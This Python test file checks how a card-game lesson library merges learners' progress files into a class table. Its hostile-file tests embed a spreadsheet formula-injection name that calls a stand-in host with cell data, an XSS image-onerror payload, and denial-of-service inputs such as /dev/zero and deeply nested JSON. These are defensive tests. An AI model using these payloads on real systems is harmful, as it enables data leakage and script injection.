"""A class's progress in one table: 30 learners play two bundled lessons (right first time,
right after wrong tries, revealed, stopped before the end), hand in their progress files (half
JSON, half CSV), and ``cardlab.lessons.class_progress`` merges them into one table, written as
CSV and HTML and shown by the ClassProgress widget. Hostile files are refused, one by one, and
names a spreadsheet or a browser would run are neutralised."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from cardlab import lessons
from cardlab.cards import cards
from cardlab.cli import main
from cardlab.engine import plural
from cardlab.lessons import LessonRun, ProgressFileError, class_progress, classbook
from cardlab.lessons.classbook import read_progress
from cardlab.widgets.lesson import answer_moves
from helpers.growth import small_memory

COMMONS = "card-commons-2-forced-defense"  # which cards, which move, which cards, then a score at the end
CONTEST = "contest-3-last-turns"  # which move, which cards, then two scores
LEARNERS = 30
#: How each learner goes through a lesson, by the learner's number modulo 5.
WAYS = ("right", "tries", "reveal", "stop", "mixed")
#: Learner 29 hands in no file for the Contest lesson.
MISSING = (f"Learner {LEARNERS - 1:02d}", CONTEST)


@pytest.fixture(scope="module")
def loaded() -> dict[str, lessons.Lesson]:
    return {name: lessons.load(name) for name in (COMMONS, CONTEST)}


def right_answer(question: lessons.Question) -> str:
    if question.kind == "play":
        return str(question.moves[0])
    if question.kind == "score":
        return str(question.points)
    return " ".join(c.code for c in sorted(question.cards)) or "-"


def wrong_answers(run: LessonRun, question: lessons.Question) -> list[tuple[str, str]]:
    """Up to two wrong answers, each as typed and as the progress writes it (one spelling): moves
    the answer buttons offer that are not the ones looked for, other numbers, other cards."""
    if question.kind == "score":
        return [
            (str(question.points + 1), str(question.points + 1)),
            (f"{question.points - 1} points", str(question.points - 1)),
        ]
    if question.kind == "cards":
        first = frozenset(sorted(question.cards)[:1])
        tries = [s for s in (frozenset(), first, frozenset(cards("2C 3C"))) if s != question.cards][:2]
        return [
            (" ".join(c.code.lower() for c in t) or "-", " ".join(str(c) for c in sorted(t)) or "none") for t in tries
        ]
    view = run.game.view(run.question_state(question), run.viewer)
    moves = [m for m in answer_moves(run.game, view, question.player) if m not in question.moves][:2]
    return [(str(m), str(m)) for m in moves]


@dataclass
class Played:
    """A learner's run of a lesson, with what the test did: the cell it expects for each question
    asked (by step and number), and the wrong answers given (as the progress writes them)."""

    run: LessonRun
    cells: dict[tuple[int, int], str] = field(default_factory=dict)
    wrong: dict[tuple[int, int], set[str]] = field(default_factory=dict)


def play(lesson: lessons.Lesson, learner: str, way: str) -> Played:
    """A learner going through ``lesson`` one way: every question right first time, right after
    two wrong answers, revealed after one wrong answer, stopped at the second question, or each
    question a different way (right first time, right after tries, revealed, in turn)."""
    played = Played(LessonRun(lesson, learner=learner))
    run, asked = played.run, 0
    while True:
        while (question := run.question) is not None:
            key = (run.index, run.step.questions.index(question) + 1)
            if way == "stop" and asked == 1:
                played.cells[key] = "not answered"
                return played
            how = WAYS[asked % 3] if way == "mixed" else way
            wrong = wrong_answers(run, question)[: {"tries": 2, "reveal": 1}.get(how, 0)]
            for typed, _ in wrong:
                assert not run.answer(typed).correct
            played.wrong[key] = {written for _, written in wrong}
            tries = plural(len(wrong), "try", "tries")
            if how == "reveal":
                run.reveal()
                played.cells[key] = f"revealed after {tries}" if wrong else "revealed"
            else:
                assert run.answer(right_answer(question)).correct
                played.cells[key] = (
                    f"right after {plural(len(wrong) + 1, 'try', 'tries')}" if wrong else "right first time"
                )
            asked += 1
        if not run.next():
            return played


def learner_name(number: int) -> str:
    return f"Learner {number:02d}"


@pytest.fixture(scope="module")
def hand_in(loaded, tmp_path_factory) -> tuple[Path, dict[tuple[str, str], Played]]:
    """A folder of the class's progress files: each learner's two lessons, one as JSON and one
    as CSV (in turn), learner 29's Contest lesson not handed in."""
    folder = tmp_path_factory.mktemp("hand-in")
    played = {}
    for number in range(LEARNERS):
        name = learner_name(number)
        for place, lesson in enumerate((COMMONS, CONTEST)):
            if (name, lesson) == MISSING:
                continue
            done = played[(name, lesson)] = play(loaded[lesson], name, WAYS[number % len(WAYS)])
            as_json = (number + place) % 2 == 0
            text = lessons.progress_json([done.run]) if as_json else lessons.progress_csv([done.run])
            (folder / f"{number:02d}-{lesson}.{'json' if as_json else 'csv'}").write_text(text, encoding="utf-8")
    return folder, played


@pytest.fixture(scope="module")
def table(hand_in):
    return class_progress([hand_in[0]])


def test_half_the_files_are_json_and_half_csv_and_each_reads_back_as_the_runs_progress(hand_in):
    folder, played = hand_in
    files = sorted(folder.iterdir())
    suffixes = [f.suffix for f in files]
    assert len(files) == 2 * LEARNERS - 1 and abs(suffixes.count(".json") - suffixes.count(".csv")) == 1
    for file in files:
        number, lesson = file.stem.split("-", 1)
        assert read_progress(file) == [played[(learner_name(int(number)), lesson)].run.progress()]


def test_the_progress_records_the_wrong_answers_tried_in_one_spelling(loaded):
    run = LessonRun(loaded[COMMONS], learner="Ada")
    question = run.question
    assert question.kind == "cards" and question.cards == frozenset(cards("2H KS"))
    for answer in ("-", "kS", "KS", "2c 3c", "ks"):  # KS three times, in three spellings
        run.answer(answer)
    run.answer("2H KS")
    (item, *_) = run.progress().questions
    assert item.wrong == ("none", "K♠", "2♣ 3♣") and item.tries == 6 and item.right and not item.first_try
    data = json.loads(lessons.progress_json([run]))
    assert data["version"] == 2 and data["lessons"][0]["items"][0]["wrong"] == ["none", "K♠", "2♣ 3♣"]
    (row, *_) = csv.DictReader(io.StringIO(lessons.progress_csv([run])))
    assert row["wrong"] == "none; K♠; 2♣ 3♣" and row["lesson_questions"] == str(len(loaded[COMMONS].questions))
    run.answer("2H KS")  # answers the next question now: the first one's record stays
    assert run.progress().questions[0].wrong == ("none", "K♠", "2♣ 3♣")


def test_a_score_s_wrong_answers_keep_their_sign_through_csv(loaded, tmp_path):
    run = LessonRun(loaded[CONTEST], learner="Bo")
    while run.question is None or run.question.kind != "score":
        if run.question is None:
            assert run.next()
        else:
            run.answer(right_answer(run.question))
    points = run.question.points
    for answer in (f"-{points + 1}", f"+{points + 3} points", str(points + 3), "many"):
        run.answer(answer)
    path = tmp_path / "bo.csv"
    path.write_text(lessons.progress_csv([run]), encoding="utf-8")
    assert f"'-{points + 1}; {points + 3}" in path.read_text(encoding="utf-8")  # a cell starting with - is text
    (progress,) = read_progress(path)
    assert progress == run.progress() and progress.questions[-1].wrong == (f"-{points + 1}", str(points + 3))


def test_thirty_learners_make_thirty_rows_and_a_column_per_question(table, loaded):
    assert not table.problems and not table.notes
    assert [row.name for row in table.learners] == [learner_name(n) for n in range(LEARNERS)]
    for columns, name in zip(table.lessons, (COMMONS, CONTEST), strict=True):
        lesson = loaded[name]
        assert (columns.lesson, columns.title, columns.game) == (name, lesson.title, lesson.game.name)
        assert columns.question_count == len(lesson.questions) == len(columns.columns)  # learner 0 reached all
        asked = [(s.number, n + 1, q.kind, q.prompt) for s in lesson.steps for n, q in enumerate(s.questions)]
        assert [(c.step, c.number, c.kind, c.prompt) for c in columns.columns] == asked


def expected_cells(table, played: dict[tuple[str, str], Played], number: int) -> list[str]:
    """What the test did, question by question: a question not asked is not answered when the
    progress lists it (asked at a step reached), and not reached otherwise."""
    out = []
    for column in table.columns:
        done = played.get((learner_name(number), column.lesson))
        listed = done is not None and any((q.step, q.number) == column.key[1:] for q in done.run.progress().questions)
        out.append(done.cells.get(column.key[1:], "not answered") if listed else "not reached")
    return out


def cell_texts(table, number: int) -> list[str]:
    row = next(r for r in table.learners if r.name == learner_name(number))
    return [row.cell(c).text for c in table.columns]


def test_each_cell_says_how_the_question_went(table, hand_in):
    _, played = hand_in
    for number in range(LEARNERS):
        assert cell_texts(table, number) == expected_cells(table, played, number), learner_name(number)
    count = len(table.columns)
    assert cell_texts(table, 0) == ["right first time"] * count
    assert "right after 3 tries" in cell_texts(table, 1) and set(cell_texts(table, 1)) <= {
        "right after 3 tries",
        "right after 2 tries",
        "right first time",
    }
    assert set(cell_texts(table, 2)) <= {"revealed after 1 try", "revealed"}
    assert (
        cell_texts(table, 3)[:2] == ["right first time", "not answered"] and cell_texts(table, 3)[-1] == "not reached"
    )
    assert {"right first time", "revealed after 1 try"} < set(cell_texts(table, 4))
    assert cell_texts(table, 29)[len(table.lessons[0].columns) :] == ["not reached"] * len(table.lessons[1].columns)
    row = table.learners[2]
    assert (row.count("first"), row.count("after"), row.count("revealed")) == (0, 0, count)


def test_the_common_wrong_answers_are_counted_by_learner(table, hand_in):
    _, played = hand_in
    for column in table.columns:
        expected = Counter(
            a
            for (_, lesson), done in played.items()
            if lesson == column.lesson
            for a in done.wrong.get(column.key[1:], ())
        )
        assert table.wrong.get(column.key, Counter()) == expected, column
        common = sorted(((a, n) for a, n in expected.items() if n >= 2), key=lambda item: (-item[1], item[0]))
        assert table.common_wrong(column) == common[:5]
    score = next(c for c in table.columns if c.kind == "score")
    ((one, many), (other, fewer)) = table.common_wrong(score)[:2]  # points + 1 (tried by more), points - 1
    assert int(one) == int(other) + 2 and many > fewer >= 2


def test_the_class_table_as_csv(table):
    rows = list(csv.reader(io.StringIO(lessons.class_csv(table))))
    head, body = rows[0], rows[1:]
    count = len(table.columns)
    first = table.lessons[0].columns
    assert head[0] == "learner" and head[1] == f"{COMMONS} Q1 (step {first[0].step})"
    assert head[len(first)] == f"{COMMONS} Q{len(first)} (step {first[-1].step})"
    assert head[-3:] == ["right first time", "right", "revealed"] and len(head) == 1 + count + 3
    assert len(body) == LEARNERS and [row[0] for row in body] == [learner_name(n) for n in range(LEARNERS)]
    assert body[0][1 : count + 1] == ["right first time"] * count and body[0][count + 1 :] == [
        str(count),
        str(count),
        "0",
    ]
    assert body[2][1 : count + 1] == cell_texts(table, 2) and body[2][count + 1 :] == ["0", "0", str(count)]


def test_the_class_table_as_a_self_contained_page(table):
    page = lessons.class_html(table)
    assert page.startswith("<!DOCTYPE html>") and '<html lang="en">' in page and "<style>" in page
    for absent in ("<script", "http:", "https:", "src=", "<link", "@import"):
        assert absent not in page
    assert page.count('<tr><th scope="row">') == LEARNERS
    assert '<abbr title="right after 3 tries">✓3</abbr>' in page and "What the cells say" in page
    assert "Common wrong answers:" in page and "learners)" in page


def test_the_widget_syncs_the_same_table(table):
    from cardlab.widgets import ClassProgress

    widget = ClassProgress(table)
    view = json.loads(widget.view_json)
    count = len(table.columns)
    assert (
        view["component"] == "class_progress" and view["viewer_text"] == f"30 learners, 2 lessons, {count} questions."
    )
    assert [len(lesson["columns"]) for lesson in view["lessons"]] == [len(lesson.columns) for lesson in table.lessons]
    assert [row["name"] for row in view["learners"]] == [row.name for row in table.learners]
    for number in range(LEARNERS):
        assert [c["text"] for c in view["learners"][number]["cells"]] == cell_texts(table, number)
    shorts = {c["text"]: c["short"] for row in view["learners"] for c in row["cells"]}
    assert (shorts["right first time"], shorts["right after 3 tries"], shorts["revealed after 1 try"]) == (
        "✓",
        "✓3",
        "shown",
    )
    assert (shorts["not answered"], shorts["not reached"]) == ("open", "–")
    ranks = {c["text"]: c["rank"] for row in view["learners"] for c in row["cells"]}
    order = [
        "right first time",
        "right after 2 tries",
        "right after 3 tries",
        "revealed after 1 try",
        "not answered",
        "not reached",
    ]
    assert [ranks[t] for t in order if t in ranks] == sorted(ranks[t] for t in order if t in ranks) and len(
        set(ranks)
    ) >= 5
    for lesson, shown in zip(table.lessons, view["lessons"], strict=True):
        for column, synced in zip(lesson.columns, shown["columns"], strict=True):
            assert [(w["answer"], w["count"]) for w in synced["wrong"]] == table.common_wrong(column)
            assert synced["prompt"] == column.prompt and synced["step"] == column.step
    assert any(c["wrong"] for lesson in view["lessons"] for c in lesson["columns"])
    assert view["learners"][0]["totals"] == [count, count, 0]
    assert repr(widget) == f"ClassProgress(30 learners, 2 lessons, {count} questions)"
    picture = widget._repr_mimebundle_()[0]["text/html"]
    assert "Learner 29" in picture and "<script" not in picture


def test_the_widget_reads_files_and_a_folder_itself(hand_in):
    from cardlab.widgets import ClassProgress

    folder, _ = hand_in
    widget = ClassProgress(folder)
    assert len(json.loads(widget.view_json)["learners"]) == LEARNERS
    widget.load(sorted(folder.glob("0*.json")))
    view = json.loads(widget.view_json)
    assert len(view["learners"]) == 10 and view["rev"] == 2


# --- merging ---------------------------------------------------------------------------------------


def write(path: Path, *played: Played, as_json: bool = True) -> Path:
    runs = [p.run for p in played]
    path.write_text(lessons.progress_json(runs) if as_json else lessons.progress_csv(runs), encoding="utf-8")
    return path


def test_one_learner_in_several_files_and_spellings_is_one_row(loaded, tmp_path):
    write(tmp_path / "a.json", play(loaded[COMMONS], "Ada  Lovelace", "right"))
    write(tmp_path / "b.csv", play(loaded[CONTEST], "ada lovelace", "reveal"), as_json=False)
    result = class_progress(tmp_path)
    (row,) = result.learners
    first, second = (len(lesson.columns) for lesson in result.lessons)
    assert row.name == "Ada  Lovelace" and len(row.files) == 2 and not result.notes
    assert [row.cell(c).status for c in result.columns] == ["first"] * first + ["revealed"] * second


def test_the_same_lesson_handed_in_twice_keeps_the_one_that_got_further(loaded, tmp_path):
    further = write(tmp_path / "z-later.json", play(loaded[COMMONS], "Ada", "right"))
    earlier = write(tmp_path / "a-earlier.csv", play(loaded[COMMONS], "Ada", "stop"), as_json=False)
    os.utime(earlier, (time.time() + 60, time.time() + 60))  # the newer file, but not as far on
    result = class_progress([tmp_path])
    (row,) = result.learners
    assert {row.cell(c).status for c in result.columns} == {"first"} and row.files == (str(further),)
    assert len(result.columns) == len(loaded[COMMONS].questions)
    (note,) = result.notes
    assert "Ada" in note and COMMONS in note and str(further) in note and str(earlier) in note and "further" in note


def test_a_file_of_a_whole_class_is_read_too(loaded, tmp_path):
    write(tmp_path / "class.json", *[play(loaded[COMMONS], f"L{n}", "right") for n in range(3)])
    write(tmp_path / "class.csv", *[play(loaded[CONTEST], f"L{n}", "reveal") for n in range(3)], as_json=False)
    result = class_progress(tmp_path)
    count = len(loaded[COMMONS].questions) + len(loaded[CONTEST].questions)
    assert [r.name for r in result.learners] == ["L0", "L1", "L2"] and len(result.columns) == count


def test_a_learner_without_a_name_is_named_by_the_file(loaded, tmp_path):
    write(tmp_path / "mine.json", play(loaded[COMMONS], "", "right"))
    write(tmp_path / "yours.json", play(loaded[COMMONS], "", "reveal"))
    assert [r.name for r in class_progress(tmp_path).learners] == ["(no name: mine.json)", "(no name: yours.json)"]


# --- hostile files ----------------------------------------------------------------------------------------


def test_names_a_spreadsheet_or_a_browser_would_run_are_neutralised(loaded, tmp_path):
    formula = '=HYPERLINK("http://x.test/"&C2,"open")'
    markup = "<img src=x onerror=alert(1)>Zoe"
    write(tmp_path / "f.csv", play(loaded[COMMONS], formula, "right"), as_json=False)
    write(tmp_path / "m.json", play(loaded[COMMONS], markup, "tries"))
    write(tmp_path / "t.json", play(loaded[COMMONS], "-2+3", "right"))
    result = class_progress(tmp_path)
    assert sorted(r.name for r in result.learners) == sorted([formula, markup, "-2+3"])  # read back as written
    rows = {row[0] for row in csv.reader(io.StringIO(lessons.class_csv(result)))}
    assert "'" + formula in rows and "'-2+3" in rows and formula not in rows
    page = lessons.class_html(result)
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;Zoe" in page


def test_hostile_files_are_refused_one_by_one_and_the_others_read(loaded, tmp_path):
    good = write(tmp_path / "good.json", play(loaded[COMMONS], "Ada", "right"))
    good_csv = lessons.progress_csv([play(loaded[COMMONS], "Cy", "right").run])
    assert ",1,True,True,False," in good_csv  # a question's tries, right, first_try, revealed
    huge = tmp_path / "huge.json"
    huge.write_text('{"cardlab": "lesson-progress", "pad": "' + " " * 1_100_000 + '"}', encoding="utf-8")
    (tmp_path / "zero.json").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "lesson.json").write_text((Path(lessons.BUNDLED) / f"{COMMONS}.md").read_text(), encoding="utf-8")
    (tmp_path / "other.json").write_text('{"cardlab": "session", "version": 2}', encoding="utf-8")
    (tmp_path / "future.json").write_text('{"cardlab": "lesson-progress", "version": 9, "lessons": []}')
    (tmp_path / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (tmp_path / "digits.json").write_text(good.read_text().replace('"steps": 12', '"steps": ' + "9" * 5000))
    (tmp_path / "negative.json").write_text(good.read_text().replace('"tries": 1', '"tries": -1'))
    (tmp_path / "kind.json").write_text(good.read_text().replace('"kind": "play"', '"kind": "<script>"'))
    (tmp_path / "lines.json").write_text(good.read_text().replace('"Ada"', '"Ada\\nBo"'))
    (tmp_path / "binary.csv").write_bytes(b"\xff\xfe" + os.urandom(200))
    (tmp_path / "other.csv").write_text("name,score\nAda,3\n")
    (tmp_path / "ragged.csv").write_text(lessons.progress_csv([play(loaded[COMMONS], "Bo", "right").run]) + "x,y\n")
    (tmp_path / "holes.csv").write_text(good_csv.replace(",1,True,True,False,", ",,True,True,False,", 1))
    (tmp_path / "notes.txt").write_text("not read: not a .json or .csv file")
    with small_memory(20):  # huge.json and /dev/zero are never read whole, the pipe never waited on
        result = class_progress(tmp_path)
    assert [r.name for r in result.learners] == ["Ada"]
    refused = {Path(p.split(": ")[0]).name: p for p in result.problems}
    assert sorted(refused) == sorted(
        [
            "huge.json",
            "zero.json",
            "pipe.csv",
            "lesson.json",
            "other.json",
            "future.json",
            "deep.json",
            "digits.json",
            "negative.json",
            "kind.json",
            "lines.json",
            "binary.csv",
            "other.csv",
            "ragged.csv",
            "holes.csv",
        ]
    )
    assert "too big" in refused["huge.json"] and "regular file" in refused["zero.json"]
    assert "regular file" in refused["pipe.csv"] and "UTF-8" in refused["binary.csv"]
    assert "version 1 or 2" in refused["future.json"] and "'tries'" in refused["negative.json"]
    assert all(len(p) < 300 for p in result.problems)  # quoted values are cut short
    with pytest.raises(ProgressFileError, match="zero.json") as err:
        read_progress(tmp_path / "zero.json")
    assert isinstance(err.value, ValueError) and err.value.path == str(tmp_path / "zero.json")


def test_the_number_of_files_read_is_bounded(loaded, tmp_path, monkeypatch):
    for n in range(6):
        write(tmp_path / f"{n}.json", play(loaded[COMMONS], f"L{n}", "right"))
    monkeypatch.setattr(classbook, "MAX_PROGRESS_FILES", 4)
    result = class_progress(tmp_path)
    assert len(result.learners) == 4 and result.problems == ("more than 4 progress files: only the first 4 were read",)


# --- the command line -------------------------------------------------------------------------------------


def test_the_command_writes_csv_and_html_and_reports_each_bad_file(hand_in, tmp_path, capsys):
    folder, _ = hand_in
    bad = tmp_path / "bad.json"
    bad.write_text("{")
    out_csv, out_html = tmp_path / "class.csv", tmp_path / "class.html"
    code = main(["lesson", "progress", str(folder), str(bad), str(tmp_path / "missing.csv"), "--csv", str(out_csv),
                 "--html", str(out_html)])  # fmt: skip
    said = capsys.readouterr()
    assert code == 1 and said.out == ""
    assert f"{bad}: not a progress file: the JSON can't be read" in said.err
    assert f"{tmp_path / 'missing.csv'}: no such file" in said.err
    assert f"30 learners, 2 lessons, {len(class_progress([folder]).columns)} questions; 2 not read" in said.err
    assert out_csv.read_text(encoding="utf-8") == lessons.class_csv(class_progress([folder]))
    assert out_html.read_text(encoding="utf-8").count('<tr><th scope="row">') == LEARNERS
    assert main(["lesson", "progress", str(folder)]) == 0
    assert capsys.readouterr().out == lessons.class_csv(class_progress([folder]))  # no file named: the CSV on stdout
